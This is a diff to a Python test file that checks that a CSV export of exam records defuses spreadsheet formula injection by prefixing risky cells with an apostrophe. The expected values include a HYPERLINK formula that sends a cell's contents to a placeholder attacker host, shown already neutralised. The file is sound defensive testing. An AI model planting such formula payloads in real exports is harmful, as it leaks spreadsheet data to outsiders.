@@ -157,9 +157,18 @@ def test_cells_a_spreadsheet_would_evaluate_are_written_as_text(
             patient_source="other",
         )
 
-    last = get_csv(client, settings, db, "nora")[-1]
+        other = add_exam(
+            session,
+            site,
+            "\tTAB",
+            study_datetime=at("2030-07-26 10:00"),
+            received_at=at("2030-07-26 10:30"),
+        )
+        add_order(session, other, procedure_code="\rCR", referrer_code="G=1", patient_source="gp")
 
-    assert last[:6] == [
+    *_, first, second = get_csv(client, settings, db, "nora")
+
+    assert first[:6] == [
         NORTH,
         "'-2+3",
         "'+XCHES",
@@ -167,24 +176,8 @@ def test_cells_a_spreadsheet_would_evaluate_are_written_as_text(
         """'=HYPERLINK("http://evil.example/?"&A1,"x")""",
         "'@SUM(1+1)",
     ]
-
-
-def test_safe_cell_prefixes_formula_starts_and_keeps_the_rest() -> None:
-    assert [extract.safe_cell(v) for v in ["=1", "+1", "-1", "@x", "\tx", "\rx"]] == [
-        "'=1",
-        "'+1",
-        "'-1",
-        "'@x",
-        "'\tx",
-        "'\rx",
-    ]
-    assert [extract.safe_cell(v) for v in [None, "", "A81001", "a=b", "2030-07-01"]] == [
-        "",
-        "",
-        "A81001",
-        "a=b",
-        "2030-07-01",
-    ]
+    # Tab and carriage return start formulas too; an = further in does not.
+    assert second[:6] == [NORTH, "'\tTAB", "'\rCR", "gp", "G=1", ""]
 
 
 def test_month_bounds_are_local_midnights() -> None:
